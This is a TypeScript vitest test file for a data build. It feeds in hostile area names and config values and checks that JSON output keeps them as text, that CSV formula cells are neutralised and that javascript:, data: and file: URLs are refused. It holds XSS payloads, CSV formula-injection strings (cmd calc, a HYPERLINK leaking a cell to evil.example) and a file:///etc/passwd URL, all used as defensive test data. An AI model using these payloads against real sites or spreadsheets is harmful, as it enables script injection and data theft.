/**
 * Hostile content through the data build: area names (from the Kemendagri list), config strings (title,
 * publisher) and column headers carrying HTML, script, `javascript:` URLs and spreadsheet formulas. The data layer
 * must keep them as plain text: JSON stays valid and holds the exact string (escaping for HTML is the site's job and
 * is tested in the browser tests), every published CSV cell that starts with = + - @ (other than a number) gets a
 * leading ', and URLs that become links must be http(s).
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { REPO, build, cleanup, listFiles, makeDataDir, type Outcome } from './harness.ts';

const HOSTILE: Record<string, string> = {
  '18.72': 'Kota <svg onload=alert(1)>',
  '18.72.01.1001': '<script>alert(1)</script>',
  '18.72.01.1002': '"><img src=x onerror=alert(1)>',
  '18.72.02.1001': 'javascript:alert(document.domain)',
  '18.72.02.1002': "+cmd|' /C calc'!A0",
  '18.72.02.1003': '@SUM(1+1)*cmd|" /C calc"!A0',
  '18.72.03': '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
  '18.72.03.1001': '-2+3+cmd|\' /C calc\'!A0',
  '18.72.03.1002': 'Desa, "Koma"\t& <b>tebal</b> =1+1',
};
const TITLE = { id: '<script>alert("judul")</script>', en: '"><img src=x onerror=alert(1)>' };
const PUBLISHER = { name: '=HYPERLINK("http://evil.example","Dinas")' };
const WEIGHT_HEADER = '<img src=x onerror=alert(2)>';

const csvQuote = (s: string) => (/[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);
let dir: string;
let r: Extract<Outcome, { ok: true }>;
let v1: string;

beforeAll(async () => {
  // The Kota Metro part of the code list, with hostile names (quoted as CSV where needed).
  const list = gunzipSync(readFileSync(join(REPO, 'data/areas/kode_wilayah_2025.csv.gz'))).toString('utf8').split('\n');
  const rows = [list[0], ...list.filter((l) => /^(18,|18\.72[,.])/.test(l))].map((l) => {
    const c = l.split(',');
    return HOSTILE[c[0]] !== undefined ? [c[0], csvQuote(HOSTILE[c[0]]), ...c.slice(2)].join(',') : l;
  });
  const metro = readFileSync(join(REPO, 'test/fixtures/golden/measurements/metro.csv'), 'utf8').replace('weight_kg', WEIGHT_HEADER);
  dir = makeDataDir({
    files: { 'metro.csv': metro },
    config: { title: TITLE, publisher: PUBLISHER, maxBadRowShare: 0.2, measurements: { columns: { weight: WEIGHT_HEADER } }, lokus: { '2025': ['18.72.01.1001'] } },
  });
  const areas = join(dir, 'areas.csv');
  writeFileSync(areas, rows.join('\n') + '\n');
  const cfg = JSON.parse(readFileSync(join(dir, 'site.config.json'), 'utf8'));
  cfg.areas = { file: areas };
  writeFileSync(join(dir, 'site.config.json'), JSON.stringify(cfg));
  const out = await build(dir);
  if (!out.ok) throw new Error(out.message);
  r = out;
  v1 = join(r.out, 'data/v1');
}, 60_000);
afterAll(() => cleanup(dir));

describe('hostile content in the data build', () => {
  it('every JSON file parses and holds the hostile strings exactly, as text', () => {
    const json = listFiles(v1).filter((f) => f.endsWith('.json'));
    for (const f of json) expect(() => JSON.parse(readFileSync(f, 'utf8')), f).not.toThrow();
    const areas = JSON.parse(readFileSync(join(v1, 'areas.json'), 'utf8')) as { code: string; name: string }[];
    for (const [code, name] of Object.entries(HOSTILE)) expect(areas.find((a) => a.code === code)?.name, code).toBe(name);
    const meta = JSON.parse(readFileSync(join(v1, 'meta.json'), 'utf8'));
    expect(meta.title).toEqual(TITLE);
    expect(meta.publisher.name).toBe(PUBLISHER.name);
    expect(meta.region.name).toBe(HOSTILE['18.72']);
    const series = JSON.parse(readFileSync(join(v1, 'series/18.72.01.1001.json'), 'utf8'));
    expect(series.name).toBe(HOSTILE['18.72.01.1001']);
    const topo = readFileSync(join(v1, 'boundaries/desa.topo.json'), 'utf8');
    expect(JSON.parse(topo).objects.desa.geometries.find((g: { id: string }) => g.id === '18.72.01.1001').properties.name).toBe(HOSTILE['18.72.01.1001']);
  });

  it('a hostile column header is reported in validation.json as plain JSON text', () => {
    const v = JSON.parse(readFileSync(join(v1, 'validation.json'), 'utf8'));
    expect(v.examples.implausible_weight[0].column).toBe(WEIGHT_HEADER);
  });

  it('no published CSV cell can run as a spreadsheet formula; hostile names keep their text after the leading \'', () => {
    const csvs = listFiles(v1).filter((f) => f.endsWith('.csv'));
    expect(csvs.map((f) => f.slice(v1.length + 1)).sort()).toEqual(expect.arrayContaining(['quality.csv', 'stunting.csv', 'surveys.csv']));
    const names = new Set<string>();
    for (const f of csvs) {
      // The Excel variants (stunting-excel.csv, csv-excel/, kamus-data.csv) start with a BOM and use ';'.
      const text = readFileSync(f, 'utf8');
      const rows = parseCsv(text, { relax_column_count: false, bom: true, delimiter: text.startsWith('\uFEFF') ? ';' : ',' }) as string[][];
      const width = rows[0].length;
      for (const row of rows) {
        expect(row.length, f).toBe(width);
        for (const cell of row) {
          if (/^[=+\-@\t\r]/.test(cell)) expect(cell, `${f}: formula cell`).toMatch(/^-\d+([.,]\d+)?(e-?\d+)?$/);
          names.add(cell);
        }
      }
    }
    for (const name of Object.values(HOSTILE)) {
      const want = /^[=+\-@\t\r]/.test(name) ? `'${name}` : name;
      expect(names.has(want), `CSV cell for ${JSON.stringify(name)}`).toBe(true);
    }
  });

  it('stunting.csv quotes cells holding commas, quotes and line breaks (RFC 4180), so rows stay aligned', () => {
    const text = readFileSync(join(v1, 'stunting.csv'), 'utf8');
    expect(text).toContain(`"${HOSTILE['18.72.03.1002'].replace(/"/g, '""')}"`);
    expect(text).toContain(`"'${HOSTILE['18.72.03'].replace(/"/g, '""')}"`);
  });
});

describe('URLs that become links must be http(s)', () => {
  const cases: [string, Record<string, unknown>, string][] = [
    ['licence.url', { licence: { id: 'X', name: 'X', url: 'javascript:alert(1)' } }, 'licence.url'],
    ['publisher.url', { publisher: { name: 'Dinas', url: 'JavaScript:alert(document.cookie)' } }, 'publisher.url'],
    ['siteUrl', { siteUrl: 'data:text/html,<script>alert(1)</script>' }, 'siteUrl'],
    ['basemap.tiles', { basemap: { tiles: 'file:///etc/passwd', attribution: 'x' } }, 'basemap.tiles'],
  ];
  const dirs: string[] = [];
  afterAll(() => dirs.forEach(cleanup));
  it.each(cases)('%s: javascript:, data: and file: URLs are refused with the key', async (_n, config, key) => {
    const d = makeDataDir({ config, files: { 'a.csv': readFileSync(join(REPO, 'test/fixtures/golden/measurements/metro.csv')) } });
    dirs.push(d);
    const out = await build(d);
    expect(out.ok).toBe(false);
    if (!out.ok) expect(out.problems.some((p) => p.message.includes(`"${key}"`) && p.expected.includes('https://'))).toBe(true);
  });
  it('a survey source_url with javascript: is refused, naming the file and the value', async () => {
    const surveys = join(REPO, 'data/surveys/prevalence.csv');
    const lines = readFileSync(surveys, 'utf8').split('\n');
    const i = lines.findIndex((l) => l.startsWith('18.72,'));
    const row = lines[i >= 0 ? i : 1].split(',');
    row[7] = 'javascript:alert(1)';
    const d = makeDataDir({ files: { 'a.csv': readFileSync(join(REPO, 'test/fixtures/golden/measurements/metro.csv')) } });
    dirs.push(d);
    writeFileSync(join(d, 'surveys.csv'), [lines[0], row.join(',')].join('\n') + '\n');
    const cfg = JSON.parse(readFileSync(join(d, 'site.config.json'), 'utf8'));
    cfg.surveys = 'surveys.csv';
    writeFileSync(join(d, 'site.config.json'), JSON.stringify(cfg));
    const out = await build(d);
    expect(out.ok).toBe(false);
    if (!out.ok) expect(out.problems.some((p) => p.file.endsWith('surveys.csv') && p.raw === 'javascript:alert(1)')).toBe(true);
  });
});
